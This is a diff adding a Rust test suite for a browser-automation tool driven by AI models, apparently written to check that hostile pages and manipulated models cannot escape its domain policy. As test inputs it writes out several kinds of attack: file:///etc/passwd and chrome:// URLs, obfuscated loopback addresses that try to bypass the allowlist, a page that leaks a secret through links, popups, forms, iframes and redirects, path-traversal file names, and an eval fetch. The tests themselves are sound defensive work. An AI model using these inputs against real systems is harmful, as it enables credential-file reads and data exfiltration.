@@ -1,0 +1,421 @@
+//! The fault suite for hostile pages and hostile models, at the command
+//! layer every face goes through: each test is a scenario an attacker tried
+//! (a page, or a model talked into asking), and asserts the promise held —
+//! on the page, on disk, and in what the server received.
+
+mod support;
+
+use rove_browser::DomainPolicy;
+use rove_commands::{Caller, Command, Secret, Secrets, SessionConfig};
+use rove_errors::Classify;
+use rove_localserver::{RequestLog, Response, Routes};
+use serde_json::json;
+use support::{Fixture, code, fixture_routes};
+
+fn policy(allowed: &[&str]) -> DomainPolicy {
+    DomainPolicy::from_lists(Some(allowed), [""; 0]).expect("policy")
+}
+
+fn port_of(f: &Fixture) -> u16 {
+    f.server.addr().port()
+}
+
+/// Requests that reached the server under the host name `localhost`.
+fn localhost_requests(log: &RequestLog) -> Vec<String> {
+    log.requests()
+        .iter()
+        .filter(|r| {
+            r.header("host")
+                .is_some_and(|h| h.to_ascii_lowercase().starts_with("localhost"))
+        })
+        .map(|r| format!("{} {}?{}", r.method, r.path, r.query))
+        .collect()
+}
+
+#[tokio::test]
+async fn open_refuses_schemes_that_read_the_disk_or_the_browser() {
+    for config in [
+        SessionConfig::default(),
+        SessionConfig {
+            policy: policy(&["127.0.0.1"]),
+            ..SessionConfig::default()
+        },
+    ] {
+        let mut f = Fixture::with(fixture_routes(), config).await;
+        f.open("/home.html").await;
+        for url in [
+            "file:///etc/passwd",
+            "FILE:///etc/passwd",
+            "/etc/passwd",
+            "view-source:file:///etc/passwd",
+            "chrome://version",
+            "chrome://settings",
+            "chrome://crash",
+            "chrome://hang",
+            "chrome://kill",
+            "devtools://devtools/bundled/inspector.html",
+            "chrome-extension://abcdef/x.html",
+        ] {
+            let e = f.fails(json!({"command": "open", "url": url})).await;
+            assert_eq!(code(&e), "NAVIGATION_BLOCKED", "{url}: {:?}", e.report());
+            assert!(!e.to_string().contains("root:x"), "{url}: {e}");
+            let e = f
+                .fails(json!({"command": "tab", "action": "new", "url": url}))
+                .await;
+            assert_eq!(code(&e), "NAVIGATION_BLOCKED", "tab new {url}");
+        }
+        let e = f
+            .fails(json!({"command": "open", "url": "javascript:alert(1)"}))
+            .await;
+        assert_eq!(code(&e), "COMMAND_REJECTED", "{:?}", e.report());
+        assert!(e.to_string().contains("eval"), "{e}");
+        // Nothing was opened, and the browser still answers.
+        assert_eq!(f.session.context().tabs().len(), 1);
+        let view = f
+            .ok(json!({"command": "snapshot"}))
+            .await
+            .view
+            .expect("view")
+            .text;
+        assert!(view.contains("home.html"), "{view}");
+        assert!(!view.contains("root:"), "{view}");
+        f.close().await;
+    }
+}
+
+#[tokio::test]
+async fn files_open_only_when_the_policy_names_their_scheme() {
+    let dir = std::env::temp_dir().join(format!("rove-hostile-file-{}", std::process::id()));
+    std::fs::create_dir_all(&dir).expect("dir");
+    let page = dir.join("local.html");
+    std::fs::write(&page, "<title>Local</title><p>a local page</p>").expect("page");
+    let url = format!("file://{}", page.display());
+    let config = SessionConfig {
+        policy: policy(&["*", "file:"]),
+        ..SessionConfig::default()
+    };
+    let mut f = Fixture::with(fixture_routes(), config).await;
+    let out = f.ok(json!({"command": "open", "url": url})).await;
+    assert!(out.text().contains("a local page"), "{}", out.text());
+    f.close().await;
+    let _ = std::fs::remove_dir_all(&dir);
+}
+
+#[tokio::test]
+async fn every_spelling_of_a_forbidden_host_is_refused_before_any_request() {
+    let log = RequestLog::new();
+    let mut f = Fixture::with(
+        fixture_routes().log_requests(log.clone()),
+        SessionConfig {
+            policy: policy(&["localhost"]),
+            ..SessionConfig::default()
+        },
+    )
+    .await;
+    let port = port_of(&f);
+    for host in [
+        "127.0.0.1".to_owned(),
+        "2130706433".to_owned(),
+        "0x7f.1".to_owned(),
+        "0177.0.0.1".to_owned(),
+        "[::ffff:127.0.0.1]".to_owned(),
+        "[::1]".to_owned(),
+        "localhost@127.0.0.1".to_owned(),
+        "localhost.127.0.0.1.nip.io".to_owned(),
+    ] {
+        let url = format!("http://{host}:{port}/home.html");
+        let e = f.fails(json!({"command": "open", "url": url})).await;
+        assert_eq!(code(&e), "NAVIGATION_BLOCKED", "{url}: {:?}", e.report());
+    }
+    assert!(log.requests().is_empty(), "{:?}", log.requests());
+    f.close().await;
+}
+
+/// A page on an allowed host that tries every way out to a forbidden one.
+fn escape_routes(log: &RequestLog) -> Routes {
+    let away = |request: &rove_localserver::Request, path: &str| {
+        let port = request
+            .header("host")
+            .and_then(|h| h.rsplit(':').next())
+            .unwrap_or_default()
+            .to_owned();
+        format!("http://localhost:{port}{path}")
+    };
+    fixture_routes()
+        .log_requests(log.clone())
+        .handle("/escape.html", move |r| {
+            let to = |what: &str| away(r, &format!("/leak?via={what}&q=SECRET"));
+            Response::html(format!(
+                "<title>Escape</title>\
+                 <a href=\"{link}\">Link</a>\
+                 <button onclick=\"window.open('{popup}')\">Popup</button>\
+                 <a href=\"{blank}\" target=_blank>Blank</a>\
+                 <button onclick=\"location.href='{script}'\">Script</button>\
+                 <a href=\"javascript:location.assign('{jslink}')\">Jslink</a>\
+                 <form action=\"{get}\"><input name=q value=1><button>Get</button></form>\
+                 <form method=post action=\"{post}\"><input name=q value=1><button>Post</button></form>\
+                 <button onclick=\"document.body.insertAdjacentHTML('beforeend', '<iframe src=&quot;{frame}&quot;></iframe>')\">Frame</button>",
+                link = to("link"),
+                popup = to("popup"),
+                blank = to("blank"),
+                script = to("script"),
+                jslink = to("jslink"),
+                get = to("get"),
+                post = to("post"),
+                frame = to("frame"),
+            ))
+        })
+        .handle("/refresh.html", move |r| {
+            Response::html(format!(
+                "<meta http-equiv=refresh content=\"0; url={}\"><title>Refresh</title>",
+                away(r, "/leak?via=refresh")
+            ))
+        })
+        .handle("/bounce", move |r| {
+            Response::redirect(&away(r, "/leak?via=redirect"))
+        })
+}
+
+#[tokio::test]
+async fn pages_cannot_lead_outside_the_allowed_hosts() {
+    let log = RequestLog::new();
+    let mut f = Fixture::with(
+        escape_routes(&log),
+        SessionConfig {
+            policy: policy(&["127.0.0.1"]),
+            ..SessionConfig::default()
+        },
+    )
+    .await;
+    for (name, role) in [
+        ("Blank", "link"),
+        ("Link", "link"),
+        ("Popup", "button"),
+        ("Script", "button"),
+        ("Jslink", "link"),
+        ("Get", "button"),
+        ("Post", "button"),
+        ("Frame", "button"),
+    ] {
+        f.open("/escape.html").await;
+        let target = f.find(name, role).await;
+        let out = f.ok(json!({"command": "click", "ref": target})).await;
+        let said = out.happened.join("\n");
+        assert!(
+            said.contains("blocked loading http://localhost")
+                || said.contains("closed a tab opened at http://localhost"),
+            "{name}: {said}"
+        );
+        assert_eq!(
+            f.session.context().tabs().len(),
+            1,
+            "{name}: the popup is gone"
+        );
+        let here = f.eval("location.hostname").await;
+        assert_eq!(here, "127.0.0.1", "{name}");
+    }
+    let e = f
+        .fails(json!({"command": "open", "url": f.url("/bounce")}))
+        .await;
+    assert_eq!(code(&e), "NAVIGATION_BLOCKED", "{:?}", e.report());
+    f.ok(json!({"command": "open", "url": f.url("/refresh.html")}))
+        .await;
+    f.ok(json!({"command": "wait", "ms": 500})).await;
+    let here = f.eval("location.hostname").await;
+    assert_eq!(here, "127.0.0.1");
+    // The forbidden host never heard a thing: not even the popup's first
+    // request, which leaves before anyone could close the window.
+    assert_eq!(localhost_requests(&log), Vec::<String>::new());
+    f.close().await;
+}
+
+#[tokio::test]
+async fn uploads_come_only_from_explicit_roots() {
+    let mut f = Fixture::start().await;
+    f.open("/files.html").await;
+    let input = f.find("Attachment: No file chosen", "button").await;
+    // A file beside the test (the folder a daemon or MCP server might have
+    // started in) and a system file: refused for a model.
+    let here = std::env::current_dir().expect("cwd").join("Cargo.toml");
+    for path in ["/etc/hostname".to_owned(), here.display().to_string()] {
+        let e = f
+            .fails(json!({"command": "upload", "ref": input, "paths": [path]}))
+            .await;
+        assert_eq!(code(&e), "UPLOAD_DENIED", "{path}: {:?}", e.report());
+    }
+    // The session's own upload folder works.
+    let mine = f.session.upload_dir().join("hostile-upload.txt");
+    std::fs::write(&mine, "ok").expect("write");
+    f.ok(json!({"command": "upload", "ref": input, "paths": [mine]}))
+        .await;
+    // The person at the shell may upload from the folder they work in, but
+    // `/` is never a root.
+    let upload = |path: String| -> Command {
+        serde_json::from_value(json!({"command": "upload", "ref": input, "paths": [path]}))
+            .expect("command")
+    };
+    let cwd = here.parent().expect("dir").to_path_buf();
+    f.session
+        .execute_for(
+            &upload(here.display().to_string()),
+            Caller::Person { cwd: Some(cwd) },
+        )
+        .await
+        .expect("the shell's own folder");
+    let e = f
+        .session
+        .execute_for(
+            &upload("/etc/hostname".into()),
+            Caller::Person {
+                cwd: Some("/".into()),
+            },
+        )
+        .await
+        .expect_err("/ is no root");
+    assert_eq!(code(&e), "UPLOAD_DENIED");
+    let _ = std::fs::remove_file(&mine);
+    f.close().await;
+}
+
+#[tokio::test]
+async fn a_model_cannot_choose_where_files_are_written() {
+    let mut f = Fixture::start().await;
+    f.open("/home.html").await;
+    let outside =
+        std::env::temp_dir().join(format!("rove-hostile-shot-{}.png", std::process::id()));
+    for path in [
+        outside.display().to_string(),
+        "../escape.png".into(),
+        "sub/dir.png".into(),
+    ] {
+        let e = f
+            .fails(json!({"command": "screenshot", "path": path}))
+            .await;
+        assert_eq!(code(&e), "COMMAND_REJECTED", "{path}: {:?}", e.report());
+    }
+    assert!(!outside.exists(), "nothing was written outside");
+    let out = f
+        .ok(json!({"command": "screenshot", "path": "shot.png"}))
+        .await;
+    let written = out.data.expect("data")["path"]
+        .as_str()
+        .expect("path")
+        .to_owned();
+    let runtime = rove_browser::runtime_dir();
+    assert!(
+        written.starts_with(&runtime.display().to_string()) && written.ends_with("/shot.png"),
+        "{written}"
+    );
+    assert!(std::fs::metadata(&written).expect("written").len() > 100);
+    // The person at the shell writes where they say; a folder that does not
+    // exist is their mistake to fix (bad input, exit 2), not a bug in rove.
+    let shot = |path: &str| -> Command {
+        serde_json::from_value(json!({"command": "screenshot", "path": path})).expect("command")
+    };
+    f.session
+        .execute_for(
+            &shot(&outside.display().to_string()),
+            Caller::Person { cwd: None },
+        )
+        .await
+        .expect("the person's path");
+    assert!(outside.exists());
+    let e = f
+        .session
+        .execute_for(&shot("/no/such/folder/x.png"), Caller::Person { cwd: None })
+        .await
+        .expect_err("no folder");
+    assert_eq!(code(&e), "COMMAND_REJECTED", "{:?}", e.report());
+    assert_eq!(e.code().exit_status(), 2);
+    let _ = std::fs::remove_file(&outside);
+    f.close().await;
+}
+
+#[tokio::test]
+async fn secrets_are_typed_only_into_fields_on_their_domain() {
+    let value = "pw-7c1e9a";
+    let log = RequestLog::new();
+    let routes = fixture_routes()
+        .log_requests(log.clone())
+        .handle("/framed.html", |r| {
+            let port = r
+                .header("host")
+                .and_then(|h| h.rsplit(':').next())
+                .unwrap_or_default()
+                .to_owned();
+            Response::html(format!(
+                "<title>Framed</title><label>Mine <input id=mine></label>\
+                 <iframe title=Foreign src=\"http://localhost:{port}/field.html\"></iframe>"
+            ))
+        })
+        .page("/leak", Response::html("<title>Leak</title>"))
+        .page(
+            "/field.html",
+            Response::html("<title>Field</title><label>Theirs <input id=theirs></label>"),
+        );
+    let config = SessionConfig {
+        secrets: Secrets(vec![
+            Secret::parse(&format!("PW@127.0.0.1={value}")).expect("secret"),
+        ]),
+        ..SessionConfig::default()
+    };
+    let mut f = Fixture::with(routes, config).await;
+    let port = port_of(&f);
+    f.open("/framed.html").await;
+
+    // Into a field of a page on its domain: the value.
+    let mine = f.find("Mine", "textbox").await;
+    f.ok(json!({"command": "fill", "ref": mine, "text": "<secret>PW</secret>"}))
+        .await;
+    assert_eq!(f.eval("document.getElementById('mine').value").await, value);
+
+    // Into a field of a foreign frame inside that page: nothing typed.
+    let theirs = f.find("Theirs", "textbox").await;
+    let e = f
+        .fails(json!({"command": "fill", "ref": theirs, "text": "<secret>PW</secret>"}))
+        .await;
+    assert_eq!(code(&e), "COMMAND_REJECTED", "{:?}", e.report());
+    assert!(
+        e.to_string().contains("may only be typed on 127.0.0.1"),
+        "{e}"
+    );
+
+    // Into a URL, a tab's address or a script: the placeholder as written,
+    // and the answer says so.
+    let leak = format!("http://localhost:{port}/leak?x=<secret>PW</secret>");
+    let out = f.ok(json!({"command": "open", "url": leak})).await;
+    assert!(
+        out.happened
+            .iter()
+            .any(|l| l.contains("was sent as written")),
+        "{:?}",
+        out.happened
+    );
+    f.ok(json!({"command": "tab", "action": "new", "url": leak}))
+        .await;
+    let out = f
+        .ok(json!({"command": "eval", "js": "fetch('/leak?via=eval&x=<secret>PW</secret>').then(r => r.status)"}))
+        .await;
+    assert!(
+        out.happened
+            .iter()
+            .any(|l| l.contains("was sent as written")),
+        "{:?}",
+        out.happened
+    );
+    let leaks: Vec<String> = log
+        .requests()
+        .iter()
+        .filter(|r| r.path == "/leak")
+        .map(|r| r.query.clone())
+        .collect();
+    assert_eq!(leaks.len(), 3, "{leaks:?}");
+    for query in &leaks {
+        assert!(!query.contains(value), "the value left: {query}");
+        assert!(
+            query.contains("secret%3EPW") || query.contains("secret>PW"),
+            "{query}"
+        );
+    }
+    f.close().await;
+}
